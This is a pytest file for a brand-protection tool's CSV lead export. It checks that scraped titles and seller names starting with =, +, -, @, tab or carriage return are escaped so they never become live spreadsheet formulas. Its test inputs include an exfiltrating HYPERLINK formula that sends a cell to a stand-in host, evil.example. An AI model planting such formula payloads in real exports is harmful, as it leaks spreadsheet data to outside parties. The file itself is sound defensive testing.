"""`netsword leads export --format csv` writes no live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from leads.store import open_store
from netsword.cli import main
from netsword.csv_safe import safe_cell
from netsword.models import Lead, Reason, make_lead_id

CASES = [
    ('=HYPERLINK("http://evil.example/?"&A1)', '\'=HYPERLINK("http://evil.example/?"&A1)', "a formula"),
    ("+1+1", "'+1+1", "plus"),
    ("-2+3", "'-2+3", "minus"),
    ("@SUM(A1)", "'@SUM(A1)", "at"),
    ("\t=1", "'\t=1", "tab"),
    ("\r=1", "'\r=1", "carriage return"),
    ("  =1", "'  =1", "spaces before a formula"),
    ("耐克 Air Max", "耐克 Air Max", "ordinary text"),
    ("a=b", "a=b", "an equals sign later is harmless"),
    (-5.0, -5.0, "a number stays a number"),
    (None, None, "not text"),
]


@pytest.mark.parametrize(("value", "expected", "why"), CASES, ids=[c[2] for c in CASES])
def test_safe_cell(value: object, expected: object, why: str) -> None:
    assert safe_cell(value) == expected, why


def test_leads_export_csv_neutralises_scraped_text(isolated: Path, capsys) -> None:
    title, seller = '=HYPERLINK("http://evil.example/?"&A1,"详情")', "@SUM(1+1)"
    listing = {"id": "x1", "platform": "taobao", "url": "https://taobao.example/x1", "title": title,
               "price": 9.9, "currency": "CNY", "seller": {"id": "s1", "name": seller}}  # fmt: skip
    lead = Lead(lead_id=make_lead_id("taobao", "x1", "tm-nike"), listing_id="x1", platform="taobao",
                url=listing["url"], entry_id="tm-nike", kind="trademark", score=90, matched="+耐克",
                reasons=(Reason("mark_variant", "-cue"),), listing=listing, first_seen="2026-11-30T00:00:00Z",
                last_seen="2026-11-30T00:00:00Z")  # fmt: skip
    with open_store("sqlite:///var/netsword.db") as store:
        store.upsert_many([lead])
    out = isolated / "leads.csv"
    assert main(["leads", "export", "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0]["title"] == "'" + title and rows[0]["seller"] == "'" + seller
    assert rows[0]["matched"] == "'+耐克" and rows[0]["reasons"].startswith("mark_variant")
    for value in rows[0].values():
        assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
